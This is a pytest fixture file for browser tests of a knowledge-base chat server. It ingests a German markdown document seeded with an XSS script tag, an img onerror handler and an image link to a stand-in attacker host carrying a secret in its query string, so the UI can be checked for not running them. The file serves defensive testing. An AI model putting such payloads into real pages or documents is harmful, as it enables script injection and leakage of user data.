"""A real ``autonom serve`` with the sample company, a collection holding hostile markup, and
keys of different reach; a headless Chromium from the system packages for the browser tests."""

from __future__ import annotations

import os
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest

from autonom.config import Settings
from autonom.knowledge import SAMPLE_DIR
from autonom.services import Services
from autonom.store.keys import KeyStore
from server_support import RunningServer, prepare_home, start_server, stop_server

HOSTILE = ("# Hinweise für Besucher\n\nStand: 1. Mai 2026\n\n"
           "Der Besucherparkplatz liegt an Tor 3.<script>window.pwned = 1; alert(1)</script>\n\n"
           "<img src=x onerror=\"window.pwned = 2\">\n\n"
           "![logo](https://angreifer.example/x.png?d=geheim)\n")


@pytest.fixture(scope="session")
def ui_server(tmp_path_factory: pytest.TempPathFactory,
              default_model_file: Path) -> Iterator[RunningServer]:
    home = tmp_path_factory.mktemp("ui-home")
    keys = prepare_home(home, default_model_file)
    services = Services(Settings(home=home))
    services.knowledge.ingest([SAMPLE_DIR], "pumpenwerk")
    hostile = tmp_path_factory.mktemp("extern")
    (hostile / "besucher.md").write_text(HOSTILE, encoding="utf-8")
    services.knowledge.ingest([hostile], "extern")
    shared = tmp_path_factory.mktemp("wissen")
    (shared / "willkommen.md").write_text("# Willkommen\n\nStand: 2026\n\nDie Kantine öffnet "
                                          "um 11:30 Uhr.\n", encoding="utf-8")
    services.knowledge.ingest([shared], "wissen")
    store = KeyStore(services.db)
    for name, scopes, grants in (("anna", {"chat"}, {"pumpenwerk"}), ("gast", {"chat"}, {"extern"}),
                                 ("redaktion", {"chat", "ingest"}, {"wissen"})):
        _, keys[name] = store.create(name, frozenset(scopes), collections=frozenset(grants))
    services.close()
    process, url = start_server(home)
    try:
        yield RunningServer(url=url, home=home, process=process, keys=keys)
    finally:
        stop_server(process)


@pytest.fixture(scope="module")
def chromium() -> Iterator[object]:
    """Debian's Chromium driven by Playwright (the browser is installed by 'make browser').
    Per module: Playwright's synchronous API runs an event loop while it is open, and tests
    elsewhere call asyncio.run()."""
    from playwright.sync_api import sync_playwright

    executable = os.environ.get("AUTONOM_CHROMIUM") or shutil.which("chromium")
    if executable is None:
        pytest.fail("no Chromium found: 'make browser' installs Debian's chromium package")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=executable, headless=True,
                                             args=["--no-sandbox"])
        yield browser
        browser.close()


@pytest.fixture
def artifacts() -> Path:
    """Where the browser tests leave their screenshots (build/ui-screenshots)."""
    folder = Path(__file__).resolve().parents[2] / "build" / "ui-screenshots"
    folder.mkdir(parents=True, exist_ok=True)
    return folder


@pytest.fixture
def page(chromium, ui_server):
    context = chromium.new_context(locale="de-DE", viewport={"width": 1100, "height": 800})
    page = context.new_page()
    page.set_default_timeout(60_000)
    problems: list[str] = []
    page.on("pageerror", lambda error: problems.append(str(error)))
    page.on("dialog", lambda dialog: (problems.append("dialog: " + dialog.message),
                                      dialog.dismiss()))
    page.problems = problems
    yield page
    context.close()
